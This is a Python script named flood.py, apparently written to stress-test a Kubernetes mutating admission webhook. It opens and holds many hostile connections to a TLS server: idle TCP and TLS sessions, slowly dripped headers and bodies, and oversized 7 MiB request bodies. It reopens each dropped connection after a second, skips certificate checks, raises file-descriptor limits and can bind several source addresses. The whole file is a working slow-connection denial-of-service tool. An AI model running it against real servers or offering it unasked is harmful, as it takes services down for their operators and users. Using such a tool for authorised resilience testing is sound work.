"""Opens hostile connections to a TLS server and holds them: `python flood.py HOST PORT SECONDS CONNECTIONS [SOURCES]`.

A fifth each does nothing after TCP, does nothing after TLS, sends headers slowly, sends a body slowly, and sends a body
of 7 MiB. One that is closed is opened again a second later. It needs only Python, so that it runs in any pod. It prints
counts in JSON at its end, so many seconds after all connections were tried.
"""

from __future__ import annotations

import heapq
import json
import resource
import selectors
import socket
import ssl
import sys
import time
from collections import Counter
from contextlib import suppress

KINDS = ("tcp", "tls", "headers", "body", "big")
AGAIN_SECONDS = 1.0
DRIP_SECONDS = 1.0
AT_ONCE = 200
"""Connections opened before the answers to earlier ones are looked at."""
BIG = 7 << 20
PIECE = b" " * (16 << 10)
START = b"POST /mutate/pods HTTP/1.1\r\nHost: webhook\r\nContent-Type: application/json\r\n"


class Hostile:
    """One connection and its successors."""

    def __init__(self, kind: str, source: str) -> None:
        self.kind = kind
        self.source = source
        self.socket: socket.socket | None = None
        self.tls: ssl.SSLObject | None = None
        self.sent_head = False


class Flood:
    """All of them, in one thread."""

    def __init__(self, host: str, port: int, amount: int, sources: list[str]) -> None:
        self.target = (host, port)
        self.all = [Hostile(KINDS[i % len(KINDS)], sources[i // len(KINDS) % len(sources)]) for i in range(amount)]
        self.agenda = [(0.0, i) for i in range(amount)]
        """When which of them acts next."""
        self.number = {hostile: i for i, hostile in enumerate(self.all)}
        self.selector = selectors.EpollSelector()
        self.counts: Counter[str] = Counter()
        self.bios: dict[Hostile, tuple[ssl.MemoryBIO, ssl.MemoryBIO]] = {}
        self.context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        self.context.check_hostname, self.context.verify_mode = False, ssl.CERT_NONE

    def run(self, seconds: float) -> None:
        """Ends so many seconds after all connections were tried."""
        until = float("inf")
        while (now := time.monotonic()) < until:
            for _ in range(AT_ONCE):
                if not self.agenda or self.agenda[0][0] > now:
                    break
                self.act(self.all[heapq.heappop(self.agenda)[1]])
            for key, _ in self.selector.select(0.01):
                self.pump(key.data)
            if self.counts["opened"] >= len(self.all):
                until = min(until, now + seconds)

    def act(self, hostile: Hostile) -> None:
        """Opens it, or lets it drip."""
        if hostile.socket is None:
            self.open(hostile)
        elif hostile.sent_head and hostile.kind in ("headers", "body"):
            self.send(hostile, b"x")
            self.later(hostile, DRIP_SECONDS)

    def later(self, hostile: Hostile, seconds: float) -> None:
        heapq.heappush(self.agenda, (time.monotonic() + seconds, self.number[hostile]))

    def open(self, hostile: Hostile) -> None:
        self.counts["opened"] += 1
        made = socket.socket()
        made.setblocking(False)
        hostile.socket, hostile.sent_head, hostile.tls = made, False, None
        try:
            if hostile.source:
                made.bind((hostile.source, 0))
            with suppress(BlockingIOError):
                made.connect(self.target)
        except OSError:
            self.lost(hostile, "refused")
            return
        if hostile.kind != "tcp":
            incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
            hostile.tls = self.context.wrap_bio(incoming, outgoing)
            self.bios[hostile] = incoming, outgoing
        wanted = selectors.EVENT_READ | (selectors.EVENT_WRITE if hostile.tls else 0)
        self.selector.register(made, wanted, hostile)

    def pump(self, hostile: Hostile) -> None:
        """Goes on as far as it goes at the moment."""
        if hostile.socket is None:
            return
        try:
            data = hostile.socket.recv(1 << 16)
        except BlockingIOError:
            data = None
        except OSError:
            self.lost(hostile, "reset")
            return
        if data == b"":
            self.lost(hostile, "closed")
            return
        if hostile.tls is None:
            return
        incoming, _ = self.bios[hostile]
        if data:
            incoming.write(data)
        try:
            hostile.tls.do_handshake()
        except ssl.SSLWantReadError:
            self.flush(hostile)
            return
        except ssl.SSLError:
            self.lost(hostile, "no handshake")
            return
        if not hostile.sent_head:
            self.counts[f"let in: {hostile.kind}"] += 1
            hostile.sent_head = True
            head = {
                "headers": START + b"X-Slow: ",
                "body": START + b"Content-Length: 1000\r\n\r\n{",
                "big": START + b"Content-Length: %d\r\n\r\n" % BIG,
            }.get(hostile.kind, b"")
            self.send(hostile, head)
            self.later(hostile, DRIP_SECONDS)
        elif data:
            self.read(hostile)
        if hostile.kind == "big" and hostile.socket is not None:
            self.send(hostile, PIECE)

    def read(self, hostile: Hostile) -> None:
        assert hostile.tls
        with suppress(ssl.SSLError):
            if answer := hostile.tls.read(1 << 16):
                self.counts[answer[:12].decode(errors="replace")] += 1

    def send(self, hostile: Hostile, data: bytes) -> None:
        if hostile.tls and data:
            with suppress(ssl.SSLError):
                hostile.tls.write(data)
        self.flush(hostile)

    def flush(self, hostile: Hostile) -> None:
        if hostile.socket is None or hostile.tls is None:
            return
        _, outgoing = self.bios[hostile]
        try:
            if outgoing.pending:
                hostile.socket.send(outgoing.read())
        except BlockingIOError:
            pass
        except OSError:
            self.lost(hostile, "reset")
            return
        wanted = selectors.EVENT_READ | (selectors.EVENT_WRITE if hostile.kind == "big" and hostile.sent_head else 0)
        self.selector.modify(hostile.socket, wanted, hostile)

    def lost(self, hostile: Hostile, why: str) -> None:
        self.counts[why] += 1
        if hostile.socket is not None:
            with suppress(KeyError, ValueError):
                self.selector.unregister(hostile.socket)
            hostile.socket.close()
        hostile.socket = hostile.tls = None
        self.bios.pop(hostile, None)
        self.later(hostile, AGAIN_SECONDS)


def main(host: str, port: str, seconds: str, amount: str, sources: str = "") -> None:
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    flood = Flood(host, int(port), int(amount), sources.split(",") if sources else [""])
    flood.run(float(seconds))
    held = sum(h.socket is not None for h in flood.all)
    print(json.dumps({"held": held, **flood.counts}), flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
